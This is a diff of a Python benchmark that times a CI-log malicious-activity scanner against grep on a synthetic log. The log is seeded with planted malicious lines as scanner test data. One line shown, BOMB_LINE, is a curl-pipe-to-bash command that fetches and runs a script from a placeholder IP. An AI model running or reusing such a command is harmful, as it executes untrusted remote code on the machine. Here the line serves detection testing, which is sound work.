@@ -1,28 +1,36 @@
-"""Throughput of the log scanner against ``grep -E -c`` with an equivalent combined pattern set.
+"""Log scan of a large CI log with the full rule pack against ``grep -E -c`` (issue 15, target 4).
 
 Usage::
 
-    .venv/bin/python benchmarks/bench_logscan.py [--size-mib 1024] [--runs 3] [--path /tmp/wb-bench-ci.log]
-        [--workers N] [--backend auto|hyperscan|re] [--grep-utf8]
+    .venv/bin/python benchmarks/bench_logscan.py [--size-mib 1024] [--quick] [--runs 3] [--keep] [--dir /tmp]
+        [--workers N] [--backend auto|hyperscan|re] [--grep-utf8] [--json FILE]
     .venv/bin/python benchmarks/bench_logscan.py --bomb-gib 2    # the budgets on a gzip bomb (docs/limits.md)
 
-Generates (once, reused when the size matches) a synthetic GitHub-Actions-style CI log in /tmp: a timestamp on every
-line, ANSI colours on about one line in eight, Unicode progress bars on 5%, ``##[group]`` markers, pip, pytest,
-compiler and docker output, benign look-alikes on 2% of lines (``curlew``, ``tokenizers``, masked tokens,
-``pip install -r requirements.txt``, ``torch.load(..., weights_only=True)``, ``nc -zv``), a checked ``curl -o``
-download (a low-severity match) about once per MiB and one planted malicious line per ~64 KiB. The file is read
-once before timing so that both tools read from the page cache, and the runs of the two tools alternate so that load
-from other processes affects both alike. Wall-clock and CPU time (user + system, of this process for the scanner and
-of the child for grep) are both reported: on a shared machine the CPU figure is the steadier one. The scanner splits
-a file this large between worker processes (one per CPU core by default, ``--workers 1`` for a single process);
-their CPU time is counted too.
+Writes a synthetic GitHub-Actions-style CI log (deterministic, ``random.Random(20261114)``) under a fresh folder of
+``--dir`` (removed afterwards unless ``--keep``): a timestamp on every line, ANSI colours on about one line in
+eight, Unicode progress bars on 5%, ``##[group]`` markers, pip, pytest, compiler and docker output, benign
+look-alikes on 2% of lines (``curlew``, ``tokenizers``, masked tokens, ``pip install -r requirements.txt``,
+``torch.load(..., weights_only=True)``, ``nc -zv``), a checked ``curl -o`` download (a low-severity match) about
+once per MiB and one planted malicious line per ~64 KiB. ``--quick`` (``make bench``): 64 MiB, one timed run.
+
+Then, through :mod:`benchmarks.harness` (whole processes, alternating, after a warm-up round that leaves the file in
+the page cache), compares
+
+* **workbench**: a child process doing what the investigation's ``logs`` analysis does
+  (:func:`workbench.logscan.analysis.analyse`): ``Scanner(builtin_rules(), ScanOptions(...,
+  budget=LOG_BUDGET)).scan_path(file)``, one process per CPU core for a file this large, then every kept match
+  as its full record (``LogMatch.to_dict()``, serialised to JSON as ``scan-logs --json`` writes it). Its last line
+  gives the hot-path seconds (scan and records, without the interpreter's start and imports), the match counts and
+  the peak RSS (``VmHWM``) of the scanning process and of its largest worker;
+* **grep**: ``grep -E -c -f PATTERNS FILE`` under ``LC_ALL=C`` (byte semantics, its fastest mode).
 
 The grep pattern set is every shipped rule translated from Python's regex syntax to POSIX ERE (through Python's own
 regex parser): lookarounds and ``unless`` exclusions are dropped (a superset, so grep never does less work),
-``ignore_case`` rules get ``[xX]`` classes, ``\\s``/``\\d``/``\\w`` become POSIX classes. grep runs with ``LC_ALL=C``
-(byte semantics, its fastest mode); ``--grep-utf8`` adds a run under ``C.UTF-8`` (far slower with this pattern set:
-0.5 MB/s measured on 256 MiB). Prints MB/s (10^6 bytes per second) per tool from the median of ``--runs`` runs, and
-the throughput ratios workbench/grep.
+``ignore_case`` rules get ``[xX]`` classes, ``\\s``/``\\d``/``\\w`` become POSIX classes. ``--grep-utf8`` adds a
+run under ``C.UTF-8`` (far slower with this pattern set: 0.5 MB/s measured on 256 MiB).
+
+Targets: throughput >= 1.2 x grep's by wall time (time ratio <= 0.83) and >= 0.8 x grep's per CPU-second (CPU
+ratio <= 1.25), <= 128 MiB peak RSS per worker process. Exits 0 even when a target is missed (NOT met).
 """
 
 from __future__ import annotations
@@ -30,12 +38,9 @@ from __future__ import annotations
 import argparse
 import gzip
 import json
-import os
 import random
 import re
-import resource
 import shutil
-import statistics
 import subprocess
 import sys
 import tempfile
@@ -44,9 +49,15 @@ from pathlib import Path
 from re import _constants as C
 from re import _parser as sre_parse
 
-from workbench.evidence.pipeline_log import LogBudget
-from workbench.logscan.engine import Scanner, ScanOptions
-from workbench.rulepack.rules import builtin_rules
+ROOT = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(ROOT / "benchmarks"))
+
+from harness import compare, report, write_json  # noqa: E402 - after the path is set
+
+from workbench.rulepack.rules import builtin_rules  # noqa: E402
+
+PY = str(ROOT / ".venv/bin/python")
+WORKER_TARGET_MIB = 128
 
 CHUNK_MIB = 32
 PLANTED = [
@@ -246,18 +257,26 @@ def ere_patterns() -> list[str]:
 
 
 # ------------------------------------------------------------------------------------------------- measuring
-def _cpu(who: int) -> float:
-    r = resource.getrusage(who)
-    return r.ru_utime + r.ru_stime
-
-
-def _measure(fn, child: bool) -> tuple[float, float]:
-    """(wall seconds, CPU seconds of its children, and of this process too unless ``child``)."""
-    c0, s0, start = _cpu(resource.RUSAGE_CHILDREN), _cpu(resource.RUSAGE_SELF), time.perf_counter()
-    fn()
-    wall = time.perf_counter() - start
-    cpu = _cpu(resource.RUSAGE_CHILDREN) - c0  # the scanner's worker processes are joined before it returns
-    return wall, cpu if child else cpu + _cpu(resource.RUSAGE_SELF) - s0
+#: the workbench side, in its own process: what ``workbench.logscan.analysis.analyse`` does with a case's log
+CHILD = r"""
+import json, os, resource, sys, time
+from datetime import UTC
+from workbench.evidence import pipeline_log
+from workbench.logscan.engine import Scanner, ScanOptions
+from workbench.rulepack.rules import builtin_rules
+t = time.perf_counter()
+workers = int(sys.argv[3]) if sys.argv[3] != "auto" else None
+options = ScanOptions(naive_tz=UTC, budget=pipeline_log.LOG_BUDGET, backend=sys.argv[2], workers=workers)
+scan = Scanner(builtin_rules(), options).scan_path(sys.argv[1], display="ci.log")
+records = json.dumps([m.to_dict() for m in scan.matches])
+seconds = time.perf_counter() - t
+hwm = next(int(x.split()[1]) for x in open("/proc/self/status") if x.startswith("VmHWM"))
+workers_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+print(json.dumps({"seconds": seconds, "matches": sum(s.count for s in scan.stats.values()),
+                  "kept": len(scan.matches), "record_bytes": len(records), "lines": scan.lines,
+                  "complete": scan.complete, "backend": scan.backend, "vmhwm_mib": hwm / 1024,
+                  "worker_peak_mib": workers_kib / 1024}))
+"""
 
 
 BOMB_LINE = b"2026-11-18T22:14:03.512Z curl -sSL http://203.0.113.7/p.sh | bash\n"
@@ -295,10 +314,13 @@ def main() -> None:
     ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     ap.add_argument("--size-mib", type=int, default=1024)
     ap.add_argument("--runs", type=int, default=3)
-    ap.add_argument("--path", type=Path, default=Path(tempfile.gettempdir()) / "wb-bench-ci.log")
+    ap.add_argument("--quick", action="store_true", help="64 MiB, one timed run (make bench)")
+    ap.add_argument("--dir", type=Path, default=Path(tempfile.gettempdir()))
+    ap.add_argument("--keep", action="store_true", help="keep the generated log")
     ap.add_argument("--backend", default="auto")
-    ap.add_argument("--workers", type=int, default=None, help="scanner processes (default: one per CPU core)")
+    ap.add_argument("--workers", default="auto", help="scanner processes (default: one per CPU core)")
     ap.add_argument("--grep-utf8", action="store_true", help="also time grep under LC_ALL=C.UTF-8 (very slow)")
+    ap.add_argument("--json", help="write the reports here")
     ap.add_argument("--bomb-gib", type=float, default=None,
                     help="instead: a gzip of this many GiB of matching lines, scanned by `workbench scan-logs` under "
                          "/usr/bin/time -v (the budgets at work)")  # fmt: skip
@@ -306,56 +328,48 @@ def main() -> None:
     if args.bomb_gib is not None:
         bomb(args.bomb_gib)
         return
-    make_log(args.path, args.size_mib)
-    size = args.path.stat().st_size
-    with args.path.open("rb") as fh:  # warm the page cache
-        while fh.read(1 << 24):
-            pass
-    patterns = ere_patterns()
-    with tempfile.NamedTemporaryFile("w", suffix=".ere", delete=False) as pf:
-        pf.write("\n".join(patterns) + "\n")
-    # a throughput benchmark: no budget (each run would otherwise spend the scanner's case budget)
-    unbounded = LogBudget(file_bytes=None, case_bytes=None, file_seconds=None, case_seconds=None)
-    scanner = Scanner(options=ScanOptions(backend=args.backend, workers=args.workers, budget=unbounded))
-    counts: dict[str, int] = {}
-
-    def run_scan() -> None:
-        result = scanner.scan_path(args.path)
-        counts["workbench matches"] = sum(s.count for s in result.stats.values())
-
-    def run_grep(locale: str):
-        def go() -> None:
-            env = {**os.environ, "LC_ALL": locale}
-            out = subprocess.run(["grep", "-E", "-c", "-f", pf.name, str(args.path)], env=env,
-                                 capture_output=True, text=True, check=False)  # fmt: skip
-            if out.returncode > 1:
-                sys.exit(f"grep failed: {out.stderr.strip()}")
-            counts[f"grep {locale} lines"] = int(out.stdout.strip() or 0)
-
-        return go
-
-    ours = f"workbench ({scanner.backend}, workers={args.workers or os.cpu_count()})"
-    tools = {ours: (run_scan, False), "grep -E -c (LC_ALL=C)": (run_grep("C"), True)}
-    if args.grep_utf8:
-        tools["grep -E -c (LC_ALL=C.UTF-8)"] = (run_grep("C.UTF-8"), True)
-    walls: dict[str, list[float]] = {name: [] for name in tools}
-    cpus: dict[str, list[float]] = {name: [] for name in tools}
-    for _ in range(args.runs):  # alternate the tools so that background load affects both alike
-        for name, (fn, child) in tools.items():
-            wall, cpu = _measure(fn, child)
-            walls[name].append(wall)
-            cpus[name].append(cpu)
-    Path(pf.name).unlink()
-    print(f"file {args.path}: {size / 1e6:.0f} MB, {len(patterns)} patterns; {counts}")
-    mb = size / 1e6
-    for name in tools:
-        wall, cpu = statistics.median(walls[name]), statistics.median(cpus[name])
-        runs = ", ".join(f"{t:.2f}" for t in walls[name])
-        print(f"{name:30s} wall {mb / wall:7.1f} MB/s (median of {runs} s)   CPU {mb / cpu:7.1f} MB/s ({cpu:.2f} s)")
-    grep = "grep -E -c (LC_ALL=C)"
-    wall_ratio = statistics.median(walls[grep]) / statistics.median(walls[ours])
-    cpu_ratio = statistics.median(cpus[grep]) / statistics.median(cpus[ours])
-    print(f"throughput ratio workbench/grep: wall {wall_ratio:.2f}, CPU {cpu_ratio:.2f}")
+    if args.quick:
+        args.size_mib, args.runs = 64, 1
+    work = Path(tempfile.mkdtemp(prefix="wb-bench-logscan-", dir=args.dir))
+    try:
+        log = work / "ci.log"
+        make_log(log, args.size_mib)
+        patterns = ere_patterns()
+        pattern_file = work / "rules.ere"
+        pattern_file.write_text("\n".join(patterns) + "\n")
+        size = log.stat().st_size
+        print(f"wrote {log}: {size / 1e6:.0f} MB; {len(patterns)} grep patterns", flush=True)
+        ours = f"workbench (workers={args.workers})"
+        grep = "grep -E -c (LC_ALL=C)"
+        commands = {ours: [PY, "-c", CHILD, str(log), args.backend, str(args.workers)],
+                    grep: ["env", "LC_ALL=C", "grep", "-E", "-c", "-f", str(pattern_file), str(log)]}  # fmt: skip
+        if args.grep_utf8:
+            commands["grep -E -c (LC_ALL=C.UTF-8)"] = ["env", "LC_ALL=C.UTF-8", *commands[grep][2:]]
+        results = compare(commands, runs=args.runs, cwd=str(ROOT))
+        title = f"log scan of {args.size_mib} MiB, full rule pack"
+        by_wall = report(title + " (wall)", results, reference=grep, ratio_on="wall", target=round(1 / 1.2, 3))
+        by_cpu = report(title + " (CPU)", results, reference=grep, ratio_on="cpu", target=1 / 0.8)
+        extra = by_wall["tools"][ours]["extra"]
+        mb = size / 1e6
+        for name, t in by_wall["tools"].items():
+            print(f"  {name:30s} {mb / t['wall']['median']:7.1f} MB/s by wall, {mb / t['cpu']['median']:7.1f} MB/s "
+                  "per CPU-second")  # fmt: skip
+        print(f"  throughput workbench/grep: wall {1 / by_wall['tools'][ours]['ratio']:.2f} (target >= 1.2), "
+              f"CPU {1 / by_cpu['tools'][ours]['ratio']:.2f} (target >= 0.8)")  # fmt: skip
+        print(f"  matches {extra.get('matches')} ({extra.get('kept')} kept as full records, "
+              f"{extra.get('record_bytes')} bytes of JSON) on {extra.get('lines')} lines")  # fmt: skip
+        worker = extra.get("worker_peak_mib") or 0.0
+        met = worker <= WORKER_TARGET_MIB  # the scanning process itself is the investigation's, pandas and all
+        print(f"  peak RSS: scanning process {extra.get('vmhwm_mib', 0):.0f} MiB, largest worker {worker:.0f} MiB; "
+              f"target <= {WORKER_TARGET_MIB} per worker: {'met' if met else 'NOT met'}")  # fmt: skip
+        for rep in (by_wall, by_cpu):
+            rep["memory_met"] = met
+        write_json(args.json, {"results": [by_wall, by_cpu]})
+    finally:
+        if args.keep:
+            print(f"kept {work}")
+        else:
+            shutil.rmtree(work, ignore_errors=True)
 
 
 if __name__ == "__main__":
